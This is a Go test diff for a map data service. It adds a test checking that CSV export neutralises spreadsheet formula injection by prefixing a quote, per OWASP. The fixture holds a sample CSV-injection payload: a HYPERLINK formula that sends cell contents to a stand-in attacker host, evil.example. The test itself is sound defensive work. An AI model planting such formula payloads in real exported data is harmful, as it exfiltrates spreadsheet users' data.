@@ -6,6 +6,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/frontier-map/frontier/internal/teststore"
 )
 
 func readCSV(t *testing.T, target string) (header []string, rows [][]string) {
@@ -89,4 +91,36 @@ func TestCSV(t *testing.T) {
 			t.Errorf("%d rows", len(rows))
 		}
 	})
+}
+
+// TestCSVFormulaCells: text from imported rows that a spreadsheet would
+// run as a formula arrives in f=csv with a leading ' (OWASP's advice);
+// numbers are left as they are.
+func TestCSVFormulaCells(t *testing.T) {
+	ds := loadDataset(t)
+	ds.Events = slices.Clone(ds.Events)
+	e := &ds.Events[0]
+	e.Notes = `=HYPERLINK("http://evil.example/?"&A1;"click")`
+	e.Admin1 = "@SUM(A1)"
+	h := newTestServer(t, teststore.New(t, ds))
+	rec := get(t, h, "/collections/clashes/items?f=csv&limit=10000")
+	wantStatus(t, rec, http.StatusOK, "text/csv; charset=utf-8")
+	recs, err := csv.NewReader(rec.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := 0
+	for _, r := range recs[1:] {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+			if cell == `'`+e.Notes || cell == "'@SUM(A1)" {
+				found++
+			}
+		}
+	}
+	if found != 2 {
+		t.Errorf("%d of the 2 neutralised cells found", found)
+	}
 }
